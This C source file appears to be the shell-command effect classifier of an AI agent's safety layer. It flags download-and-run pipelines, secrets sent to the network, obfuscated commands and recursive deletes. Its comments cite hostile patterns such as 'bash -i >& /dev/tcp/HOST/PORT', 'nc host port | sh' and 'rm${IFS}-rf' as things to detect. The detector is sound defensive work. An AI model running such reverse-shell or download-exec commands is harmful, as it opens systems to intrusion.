/* Effect classifier for shell commands: each simple command in turn, then the rules that join them. */
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "agent.h"
#include "effects-internal.h"
#include "utf8.h"
#include "util.h"

int
effects_oom(struct classify *c)
{
	c->error = -ENOMEM;
	return -ENOMEM;
}

char *
effects_strdup(struct classify *c, const char *s)
{
	char *d = strdup(s);

	if (d == NULL)
		effects_oom(c);
	return d;
}

void
effects_add(struct cmd_ctx *x, unsigned effects)
{
	x->c->out->effects |= effects;
}

/* Appends to a list of the facts; past EFFECTS_MAX_LIST the action is marked unparsed. */
static void
list_push(struct classify *c, char ***v, size_t *n, char *s, bool unique)
{
	char **nv;

	if (s == NULL) {
		effects_oom(c);
		return;
	}
	/* UTF-8 for replies and the audit log, before comparing (see effects_path_record). */
	utf8_sanitize(s);
	for (size_t i = 0; unique && i < *n; i++)
		if (strcmp((*v)[i], s) == 0) {
			free(s);
			return;
		}
	if (*n >= EFFECTS_MAX_LIST) {
		c->out->effects |= EFFECT_UNPARSED;
		free(s);
		return;
	}
	nv = realloc(*v, (*n + 1) * sizeof **v);
	if (nv == NULL) {
		free(s);
		effects_oom(c);
		return;
	}
	*v = nv;
	(*v)[(*n)++] = s;
}

/* The command as policy patterns see it: unwrapped argv, then its redirections. */
static char *
command_text(const struct shell_command *cmd)
{
	size_t len = 1;
	char *s, *p;

	for (size_t i = 0; i < cmd->n_assigns; i++)
		len += strlen(cmd->assigns[i]) + 1;
	for (size_t i = 0; i < cmd->argc; i++)
		len += strlen(cmd->argv[i]) + 1;
	for (size_t i = 0; i < cmd->n_redirs; i++)
		len += strlen(cmd->redirs[i].target) + 16;
	s = p = malloc(len);
	if (s == NULL)
		return NULL;
	*p = '\0';
	/* Assignments only when there is nothing else: X=1 cmd is "cmd". */
	for (size_t i = 0; cmd->argc == 0 && i < cmd->n_assigns; i++)
		p += sprintf(p, "%s%s", p == s ? "" : " ", cmd->assigns[i]);
	for (size_t i = 0; i < cmd->argc; i++)
		p += sprintf(p, "%s%s", p == s ? "" : " ", cmd->argv[i]);
	for (size_t i = 0; i < cmd->n_redirs; i++) {
		const struct shell_redir *r = &cmd->redirs[i];
		static const char *const ops[] = { "<", ">", ">>", "<>", ">&", "<<", "<<<" };
		char fd[16] = "";

		if (r->fd == -1)
			strcpy(fd, "&");
		else if (r->fd != (r->kind == SHELL_REDIR_READ || r->kind >= SHELL_REDIR_HEREDOC ||
				   r->kind == SHELL_REDIR_READ_WRITE ? 0 : 1))
			snprintf(fd, sizeof fd, "%d", r->fd);
		p += sprintf(p, "%s%s%s%s", p == s ? "" : " ", fd, ops[r->kind],
			     r->kind == SHELL_REDIR_HEREDOC ? "EOF" : r->target);
	}
	return s;
}

/* Programs whose output eval may run without hiding anything: shell setup idioms. */
static bool
eval_safe(const char *name)
{
	static const char *const names[] = { "ssh-agent", "dircolors", "pyenv",  "rbenv",    "nodenv",
					     "direnv",	  "brew",      "starship", "zoxide", "fnm",
					     "mise",	  "keychain",  "gpg-agent", "opam",  "conda",
					     "thefuck",	  "luarocks",  "goenv",	   "jenv",  NULL };

	for (const char *const *n = names; *n != NULL; n++)
		if (strcmp(name, *n) == 0)
			return true;
	return false;
}

/* Per-parse state: each scope's working directory, each command's traits. */
struct shell_state {
	const struct shell_parse *sp;
	char **cwd;
	bool *cwd_set;
	unsigned *traits;
	size_t *code_arg;
	bool *remote;
	const char *initial;
};

static const char *
scope_cwd(struct classify *c, struct shell_state *st, size_t scope)
{
	size_t parent;
	const char *v;

	if (st->cwd_set[scope])
		return st->cwd[scope];
	parent = st->sp->scope_parent[scope];
	v = parent == SHELL_NONE || parent >= scope ? st->initial : scope_cwd(c, st, parent);
	st->cwd[scope] = v ? effects_strdup(c, v) : NULL;
	st->cwd_set[scope] = true;
	return st->cwd[scope];
}

/* cd DIR: later commands of the same shell resolve their paths from there. */
static void
change_dir(struct classify *c, struct shell_state *st, const struct shell_command *cmd)
{
	const char *cur = scope_cwd(c, st, cmd->scope), *target = c->home;
	size_t k = 1;
	char *next = NULL;

	while (k < cmd->argc && cmd->argv[k][0] == '-' && cmd->argv[k][1] != '\0' &&
	       strcmp(cmd->argv[k], "--") != 0)
		k++;
	if (k < cmd->argc && strcmp(cmd->argv[k], "--") == 0)
		k++;
	if (k < cmd->argc) {
		target = cmd->argv[k];
		if ((cmd->argv_flags[k] & (SHELL_WORD_VARIABLE | SHELL_WORD_SUBST)) ||
		    strcmp(target, "-") == 0)
			target = NULL;
	}
	if (target != NULL)
		next = path_resolve(target, cur);
	free(st->cwd[cmd->scope]);
	st->cwd[cmd->scope] = next;
	st->cwd_set[cmd->scope] = true;
}

static bool
in_list(char **v, size_t n, const char *s)
{
	for (size_t i = 0; i < n; i++)
		if (strcmp(v[i], s) == 0)
			return true;
	return false;
}

/* A file this command runs: one a download or a decoder wrote earlier is their code. */
static void
runs_file(struct cmd_ctx *x, const char *word)
{
	char *path = path_resolve(word, x->cwd);

	if (path == NULL)
		return;
	if (in_list(x->c->fetched, x->c->n_fetched, path))
		effects_add(x, EFFECT_DOWNLOAD_EXEC);
	if (in_list(x->c->decoded, x->c->n_decoded, path))
		effects_add(x, EFFECT_OBFUSCATION);
	free(path);
}

/* Where a download or a decoder put its output, remembered to see it run. */
static void
note_outputs(struct cmd_ctx *x)
{
	const struct shell_command *cmd = x->cmd;

	if (!(x->traits & (T_FETCH | T_DECODE)))
		return;
	for (size_t i = 0; i < cmd->n_redirs; i++) {
		const struct shell_redir *r = &cmd->redirs[i];
		char *path;

		if ((r->kind != SHELL_REDIR_WRITE && r->kind != SHELL_REDIR_APPEND) ||
		    (r->fd != 1 && r->fd != -1))
			continue;
		path = path_resolve(r->target, x->cwd);
		if (path == NULL)
			continue;
		if (x->traits & T_FETCH)
			list_push(x->c, &x->c->fetched, &x->c->n_fetched, path, true);
		else
			list_push(x->c, &x->c->decoded, &x->c->n_decoded, path, true);
	}
}

/*
 * Files a word of a command names: secrets and maestro's files count
 * whoever reads them. A program with a handler has had its operands seen;
 * only its option values (--key=FILE) are looked at here.
 */
static void
generic_args(struct cmd_ctx *x)
{
	bool known = x->prog != NULL && x->prog->handler != NULL;

	for (size_t k = 1; k < x->cmd->argc; k++) {
		const char *w = x->cmd->argv[k], *eq;
		char *path;

		if (w[0] == '-' && (eq = strchr(w, '=')) != NULL)
			w = eq + 1;
		else if (known)
			continue;
		if (w[0] == '\0' || (x->cmd->argv_flags[k] & SHELL_WORD_PROCSUBST))
			continue;
		path = path_resolve(w, x->cwd);
		if (path == NULL)
			continue;
		if (path_is_sensitive(path) || (!x->remote && effects_is_maestro(x->c, path, false)))
			effects_path(x, w, x->cmd->argv_flags[k], PATH_READ, 0);
		free(path);
	}
}

/*
 * The find whose output reaches the xargs at index through a pipe, filters
 * (grep, sort) between them or not: find . -name x | grep y | xargs rm.
 */
static const struct shell_command *
upstream_find(const struct shell_parse *sp, size_t index)
{
	const struct shell_command *xa = &sp->commands[index], *best = NULL;

	for (size_t i = 0; xa->pipe_length > 1 && i < sp->n_commands; i++) {
		const struct shell_command *f = &sp->commands[i];

		if (f->pipeline == xa->pipeline && f->pipe_index < xa->pipe_index && f->argc > 0 &&
		    f->depth == xa->depth && strcmp(shell_basename(f->argv[0]), "find") == 0 &&
		    (best == NULL || f->pipe_index > best->pipe_index))
			best = f;
	}
	return best;
}

/*
 * A program no table knows: its subcommand may still say it deletes
 * (fastly service delete, borg prune). Wholesale (--all, -r) is a
 * recursive delete of something that is not in the workspace.
 */
static void
unknown_program(struct cmd_ctx *x)
{
	size_t seen = 0;

	for (size_t k = 1; k < x->argc && seen < 3; k++) {
		if (x->argv[k][0] == '-')
			continue;
		seen++;
		if (!effects_deleting_word(x->argv[k]))
			continue;
		effects_add(x, EFFECT_DELETE);
		if (arg_has(x, 'r', "--recursive") || arg_has(x, 0, "--all")) {
			effects_add(x, EFFECT_RECURSIVE_DELETE);
			x->c->rdel_outside = true;
		}
		return;
	}
}

/* Whether a substitution makes the program of the command at index. */
static bool
has_code_child(const struct shell_parse *sp, size_t index)
{
	for (size_t j = index + 1; j < sp->n_commands; j++)
		if (sp->commands[j].parent == index && sp->commands[j].parent_arg == 0 &&
		    sp->commands[j].origin == SHELL_ORIGIN_SUBST)
			return true;
	return false;
}

static void
classify_command(struct classify *c, struct shell_state *st, size_t i)
{
	const struct shell_command *cmd = &st->sp->commands[i];
	struct cmd_ctx x = { .c = c, .sp = st->sp, .cmd = cmd, .index = i, .argv = cmd->argv,
			     .flags = cmd->argv_flags, .argc = cmd->argc, .code_arg = SHELL_NONE };
	const struct shell_command *parent = cmd->parent != SHELL_NONE ? &st->sp->commands[cmd->parent] :
									  NULL;

	st->remote[i] = cmd->origin == SHELL_ORIGIN_REMOTE || (parent && st->remote[cmd->parent]);
	x.remote = st->remote[i];
	x.cwd = x.remote ? NULL : scope_cwd(c, st, cmd->scope);
	/* {} of find -exec and the stdin of xargs stand for what find found. */
	if (cmd->origin == SHELL_ORIGIN_FIND_EXEC)
		x.finder = parent;
	else if (cmd->origin == SHELL_ORIGIN_XARGS)
		x.finder = upstream_find(st->sp, cmd->parent);
	if (!(cmd->flags & SHELL_CMD_KEYWORD) && (cmd->argc > 0 || cmd->n_assigns > 0 || cmd->n_redirs > 0))
		list_push(c, &c->out->commands, &c->out->n_commands, command_text(cmd), false);
	if (cmd->flags & SHELL_CMD_PRIVILEGED)
		effects_add(&x, EFFECT_PRIVILEGE);
	for (size_t k = 0; k < cmd->n_wrappers; k++) {
		list_push(c, &c->out->programs, &c->out->n_programs,
			  effects_strdup(c, cmd->wrappers[k]), true);
		/* What running through it always means: systemd-run makes a service. */
		effects_add(&x, effects_wrapper_effects(cmd->wrappers[k]));
	}
	for (size_t k = 0; k < cmd->n_redirs; k++) {
		const struct shell_redir *r = &cmd->redirs[k];

		if (r->kind == SHELL_REDIR_READ || r->kind == SHELL_REDIR_READ_WRITE)
			effects_path(&x, r->target, r->flags, PATH_READ, 0);
		if (r->kind == SHELL_REDIR_WRITE || r->kind == SHELL_REDIR_APPEND ||
		    r->kind == SHELL_REDIR_READ_WRITE)
			effects_path(&x, r->target, r->flags, PATH_WRITE, 0);
	}
	for (size_t k = 0; k < cmd->argc; k++) {
		const char *b = shell_basename(cmd->argv[k]);

		if (strcmp(b, "maestroctl") == 0 || strcmp(b, "maestrod") == 0)
			effects_add(&x, EFFECT_MAESTRO_SELF);
		/* rm${IFS}-rf, $'\x72\x6d': spelled so that a reader does not see it. */
		if ((cmd->argv_flags[k] & SHELL_WORD_IFS) ||
		    (k == 0 && (cmd->argv_flags[k] & SHELL_WORD_NUMERIC_ESCAPE)))
			effects_add(&x, EFFECT_OBFUSCATION);
	}
	if (cmd->argc > 0 && !(cmd->flags & SHELL_CMD_KEYWORD) &&
	    !(cmd->argv_flags[0] & (SHELL_WORD_VARIABLE | SHELL_WORD_SUBST | SHELL_WORD_PROCSUBST))) {
		list_push(c, &c->out->programs, &c->out->n_programs,
			  effects_strdup(c, shell_basename(cmd->argv[0])), true);
		effects_program(&x);
		/* ./tool, bash i.sh: a file run here, perhaps one fetched or decoded just before. */
		if (!x.remote && strchr(cmd->argv[0], '/') != NULL)
			runs_file(&x, cmd->argv[0]);
		if (!x.remote && x.code_arg != SHELL_NONE && x.code_arg < x.argc)
			runs_file(&x, x.argv[x.code_arg]);
		if (x.code_arg != SHELL_NONE)
			st->code_arg[i] = (size_t)(x.argv - cmd->argv) + x.code_arg;
		if (x.prog == NULL || !(x.prog->traits & T_OWN_ARGS))
			generic_args(&x);
		if (x.prog == NULL)
			unknown_program(&x);
	}
	/* eval "$X" with X=$(...): text made at run time, run as code, and nothing to read of it. */
	if (cmd->argc > 0 && (cmd->argv_flags[0] & SHELL_WORD_SUBST) &&
	    (cmd->origin == SHELL_ORIGIN_EVAL || cmd->origin == SHELL_ORIGIN_SHELL_C ||
	     cmd->origin == SHELL_ORIGIN_STDIN) && !has_code_child(st->sp, i))
		effects_add(&x, EFFECT_OBFUSCATION);
	/* bash -i >& /dev/tcp/HOST/PORT: a shell whose input is a connection. */
	if ((x.traits & T_RAW_SOCKET) && (x.traits & T_CODE_RUNNER))
		effects_add(&x, EFFECT_DOWNLOAD_EXEC);
	note_outputs(&x);
	st->traits[i] = x.traits;
	if (cmd->argc > 0 && (strcmp(cmd->argv[0], "cd") == 0 || strcmp(cmd->argv[0], "pushd") == 0) &&
	    cmd->pipe_length == 1)
		change_dir(c, st, cmd);
}

/* What a nested command's output does becomes what its parent's does. */
static void
propagate(struct shell_state *st)
{
	const struct shell_parse *sp = st->sp;

	for (size_t i = sp->n_commands; i-- > 0;) {
		const struct shell_command *cmd = &sp->commands[i];
		unsigned t = st->traits[i];

		if (cmd->parent == SHELL_NONE)
			continue;
		switch (cmd->origin) {
		case SHELL_ORIGIN_SUBST:
		case SHELL_ORIGIN_PROCSUBST:
			/* Its output becomes a word of the parent: data, not a stream. */
			t &= T_SECRET | T_FETCH | T_DECODE;
			break;
		case SHELL_ORIGIN_REMOTE:
			t &= ~(unsigned)T_NETWORK;
			break;
		default:
			break;
		}
		st->traits[cmd->parent] |= t & ~(unsigned)T_CODE_RUNNER;
	}
}

/* The rules no single command shows: secrets piped to the network, downloads piped to a shell. */
static void
join_rules(struct classify *c, struct shell_state *st)
{
	const struct shell_parse *sp = st->sp;
	unsigned *e = &c->out->effects;

	for (size_t i = 0; i < sp->n_commands; i++) {
		const struct shell_command *a = &sp->commands[i];
		unsigned ta = st->traits[i];

		if ((ta & T_SECRET) && (ta & T_NETWORK))
			*e |= EFFECT_SECRET_SEND;
		for (size_t j = 0; a->pipe_length > 1 && j < sp->n_commands; j++) {
			const struct shell_command *b = &sp->commands[j];
			unsigned tb = st->traits[j];

			if (b->pipeline != a->pipeline || b->pipe_index <= a->pipe_index)
				continue;
			if ((ta & T_SECRET) && (tb & T_NETWORK))
				*e |= EFFECT_SECRET_SEND;
			if ((ta & T_FETCH) && (tb & T_STDIN_CODE))
				*e |= EFFECT_DOWNLOAD_EXEC;
			if ((ta & T_DECODE) && (tb & T_STDIN_CODE))
				*e |= EFFECT_OBFUSCATION;
			/* nc host port | sh, and sh -i | nc host port: a shell on a connection. */
			if (((ta & T_RAW_SOCKET) && (tb & T_STDIN_CODE)) ||
			    ((ta & T_STDIN_CODE) && (tb & T_RAW_SOCKET)))
				*e |= EFFECT_DOWNLOAD_EXEC;
		}
		if (a->parent == SHELL_NONE)
			continue;
		{
			const struct shell_command *p = &sp->commands[a->parent];
			size_t code = st->code_arg[a->parent];
			bool into_code = a->origin == SHELL_ORIGIN_SUBST &&
					 (a->parent_arg == 0 || (code != SHELL_NONE && a->parent_arg == code));
			bool into_runner = a->origin == SHELL_ORIGIN_PROCSUBST &&
					   (st->traits[a->parent] & T_CODE_RUNNER);

			if (!into_code && !into_runner)
				continue;
			/* $(curl ...) run as a command, sh <(curl ...), python -c "$(curl ...)". */
			if (ta & T_FETCH)
				*e |= EFFECT_DOWNLOAD_EXEC;
			if (ta & T_DECODE)
				*e |= EFFECT_OBFUSCATION;
			/* eval "$(...)": text made at run time, run as code. */
			if (into_code && a->parent_arg == 0 && a->argc > 0 &&
			    (p->origin == SHELL_ORIGIN_EVAL || p->origin == SHELL_ORIGIN_SHELL_C ||
			     p->origin == SHELL_ORIGIN_STDIN) &&
			    !eval_safe(shell_basename(a->argv[0])))
				*e |= EFFECT_OBFUSCATION;
		}
	}
}

/*
 * Classifies a shell command line; also used for the shell text inside
 * python -c "os.system('...')" and the like, one level down.
 */
int
effects_shell(struct classify *c, const char *text, size_t len)
{
	struct shell_parse sp;
	struct shell_state st = { .sp = &sp };
	int r;

	if (c->code_depth > EFFECTS_MAX_CODE_DEPTH) {
		c->out->effects |= EFFECT_UNPARSED;
		return 0;
	}
	c->code_depth++;
	c->out->effects |= EFFECT_EXECUTE;
	r = shell_parse(text, len, c->home, &sp);
	if (r < 0) {
		c->code_depth--;
		return effects_oom(c);
	}
	if (sp.incomplete)
		c->out->effects |= EFFECT_UNPARSED;
	st.initial = c->cwd;
	st.cwd = calloc(sp.n_scopes, sizeof *st.cwd);
	st.cwd_set = calloc(sp.n_scopes, sizeof *st.cwd_set);
	st.traits = calloc(sp.n_commands + 1, sizeof *st.traits);
	st.code_arg = malloc((sp.n_commands + 1) * sizeof *st.code_arg);
	st.remote = calloc(sp.n_commands + 1, sizeof *st.remote);
	if (st.cwd && st.cwd_set && st.traits && st.code_arg && st.remote) {
		for (size_t i = 0; i < sp.n_commands; i++)
			st.code_arg[i] = SHELL_NONE;
		for (size_t i = 0; i < sp.n_commands && c->error == 0; i++)
			classify_command(c, &st, i);
		propagate(&st);
		join_rules(c, &st);
	} else {
		effects_oom(c);
	}
	for (size_t i = 0; st.cwd != NULL && i < sp.n_scopes; i++)
		free(st.cwd[i]);
	free(st.cwd);
	free(st.cwd_set);
	free(st.traits);
	free(st.code_arg);
	free(st.remote);
	shell_parse_clear(&sp);
	c->code_depth--;
	return c->error;
}
